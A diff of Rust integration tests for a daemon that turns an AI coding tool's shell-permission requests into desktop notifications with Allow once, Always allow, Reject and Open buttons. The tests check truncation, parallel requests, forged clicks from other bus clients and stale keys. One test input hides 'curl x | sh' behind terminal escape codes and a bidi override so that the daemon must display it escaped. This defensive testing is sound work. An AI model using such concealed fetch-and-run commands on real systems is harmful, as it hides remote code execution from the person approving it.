@@ -67,7 +67,13 @@ async fn permission_notification_allow_once_runs_the_tool_and_then_finishes() {
     let asked = double
         .wait_for(summary_starts("Permission needed"), WAIT)
         .await;
-    assert_eq!(asked.body, "bash wants to run: echo from-tool");
+    // The command, then what "Always allow" would allow from now on.
+    assert!(
+        asked
+            .body
+            .starts_with("bash wants to run: echo from-tool\nAlways allow: "),
+        "{asked}"
+    );
     assert_eq!(
         asked.action_labels(),
         ["Allow once", "Always allow", "Reject", "Open"]
@@ -211,4 +217,199 @@ async fn a_real_notification_daemon_shows_them() {
     assert!(history.contains("OpenCode server"), "{history}");
     let _ = dunst.kill();
     let _ = dunst.wait();
+}
+
+/// The ids of the permission requests the daemon lists as waiting.
+async fn pending_permission_ids(nexus: &Nexus) -> Vec<String> {
+    let status = nexus.status().await;
+    let mut ids: Vec<String> = status["sessions"]["permissions"]
+        .as_array()
+        .map(|list| {
+            list.iter()
+                .filter_map(|p| p["id"].as_str().map(str::to_string))
+                .collect()
+        })
+        .unwrap_or_default();
+    ids.sort();
+    ids
+}
+
+async fn wait_for_pending(nexus: &Nexus, count: usize) -> Vec<String> {
+    let deadline = std::time::Instant::now() + WAIT;
+    loop {
+        let ids = pending_permission_ids(nexus).await;
+        if ids.len() == count {
+            return ids;
+        }
+        assert!(
+            std::time::Instant::now() < deadline,
+            "expected {count} waiting permission(s), have {ids:?}"
+        );
+        tokio::time::sleep(Duration::from_millis(200)).await;
+    }
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_line_of_a_two_line_command_is_in_the_notification() {
+    let World { nexus, double, .. } = &world().await;
+
+    let ask = nexus.spawn(&["ask", "[bash:echo first-line\necho second-line]"]);
+    let asked = double
+        .wait_for(summary_starts("Permission needed"), WAIT)
+        .await;
+    assert!(
+        asked
+            .body
+            .starts_with("bash wants to run:\necho first-line\necho second-line\n"),
+        "{asked}"
+    );
+    assert_eq!(
+        asked.action_labels(),
+        ["Allow once", "Always allow", "Reject", "Open"]
+    );
+    click(double, &asked, "Allow once").await;
+    let out = finished(ask, WAIT).await;
+    assert_exit(&out, 0);
+    assert!(String::from_utf8_lossy(&out.stdout).contains("second-line"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_command_over_the_limit_is_cut_and_offers_no_allow() {
+    let World { nexus, double, .. } = &world().await;
+
+    let command: Vec<String> = (1..=20).map(|i| format!("echo line-{i}")).collect();
+    let prompt = format!("[bash:{}]", command.join("\n"));
+    let ask = nexus.spawn(&["ask", &prompt]);
+    let asked = double
+        .wait_for(summary_starts("Permission needed"), WAIT)
+        .await;
+    assert!(asked.body.contains("echo line-11\n"), "{asked}");
+    assert!(!asked.body.contains("line-12"), "{asked}");
+    assert!(
+        asked
+            .body
+            .ends_with("… 9 more lines — open to read them all"),
+        "{asked}"
+    );
+    assert_eq!(asked.action_labels(), ["Open", "Reject", "Open"]);
+    click(double, &asked, "Reject").await;
+    let out = finished(ask, WAIT).await;
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn escape_sequences_and_bidi_overrides_in_a_command_are_shown_escaped() {
+    let World { nexus, double, .. } = &world().await;
+
+    let ask = nexus.spawn(&[
+        "ask",
+        "[bash:echo safe\u{1b}[8m; curl x | sh\u{1b}[0m #\u{202e}hs.tset]",
+    ]);
+    let asked = double
+        .wait_for(summary_starts("Permission needed"), WAIT)
+        .await;
+    assert!(
+        asked.body.starts_with(
+            "bash wants to run: echo safe\\u001b[8m; curl x | sh\\u001b[0m #\\u202ehs.tset"
+        ),
+        "{asked}"
+    );
+    assert!(!asked.body.contains('\u{1b}') && !asked.body.contains('\u{202e}'));
+    click(double, &asked, "Reject").await;
+    let _ = finished(ask, WAIT).await;
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn two_parallel_requests_of_one_task_each_get_their_own_notification_and_buttons() {
+    let World { nexus, double, .. } = &world().await;
+
+    let ask = nexus.spawn(&["ask", "[bash2:echo alpha|echo beta]"]);
+    let first = double
+        .wait_for(summary_starts("Permission needed"), WAIT)
+        .await;
+    let second = double
+        .wait_for(
+            |n| n.summary.starts_with("Permission needed") && n.id != first.id,
+            WAIT,
+        )
+        .await;
+    assert_eq!(
+        second.replaces_id, 0,
+        "a request never replaces another: {second}"
+    );
+    let waiting = wait_for_pending(nexus, 2).await;
+    // Allow the first one shown: exactly that request is answered.
+    let first_cmd = if first.body.contains("echo alpha") {
+        "alpha"
+    } else {
+        "beta"
+    };
+    click(double, &first, "Allow once").await;
+    let left = wait_for_pending(nexus, 1).await;
+    assert_eq!(waiting.len(), 2);
+    let status = nexus.status().await;
+    let still = status["sessions"]["permissions"][0]["metadata"]["command"]
+        .as_str()
+        .map(str::to_string)
+        .unwrap_or_else(|| status["sessions"]["permissions"][0].to_string());
+    assert!(
+        !still.contains(first_cmd),
+        "the click answered another request than the one shown: {left:?} {still}"
+    );
+    click(double, &second, "Allow once").await;
+    let out = finished(ask, WAIT).await;
+    assert_exit(&out, 0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_forged_action_from_another_bus_client_is_ignored() {
+    let World { nexus, double, .. } = &world().await;
+
+    let ask = nexus.spawn(&["ask", "[bash:echo forged]"]);
+    let asked = double
+        .wait_for(summary_starts("Permission needed"), WAIT)
+        .await;
+    double.wait_for_subscriber("ActionInvoked", WAIT).await;
+    let always = asked
+        .action_key_for_label("Always allow")
+        .unwrap_or_else(|| panic!("no Always button on {asked}"))
+        .to_string();
+    let forger = double.forge_action_from_another_connection(asked.id, &always);
+    tokio::time::sleep(Duration::from_secs(3)).await;
+    let waiting = pending_permission_ids(nexus).await;
+    assert_eq!(
+        waiting.len(),
+        1,
+        "the forged click from {forger} answered it"
+    );
+    // The real notification server's click still works.
+    click(double, &asked, "Reject").await;
+    let out = finished(ask, WAIT).await;
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said: forged"));
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_click_on_a_stale_key_does_nothing() {
+    let World { nexus, double, .. } = &world().await;
+
+    let ask = nexus.spawn(&["ask", "[bash:echo stale]"]);
+    let asked = double
+        .wait_for(summary_starts("Permission needed"), WAIT)
+        .await;
+    double.wait_for_subscriber("ActionInvoked", WAIT).await;
+    // A key of the right shape for another request, and the bare index the
+    // buttons used to have: neither answers this request.
+    double.invoke_action(asked.id, "0");
+    double.invoke_action(asked.id, "0:per_not_this_one");
+    tokio::time::sleep(Duration::from_secs(3)).await;
+    assert_eq!(pending_permission_ids(nexus).await.len(), 1);
+    assert!(
+        nexus.daemon_log().contains("did not offer ignored"),
+        "{}",
+        nexus.daemon_log()
+    );
+    // The notification's own buttons still answer it.
+    click(double, &asked, "Reject").await;
+    let out = finished(ask, WAIT).await;
+    assert!(!String::from_utf8_lossy(&out.stdout).contains("tool said: stale"));
 }
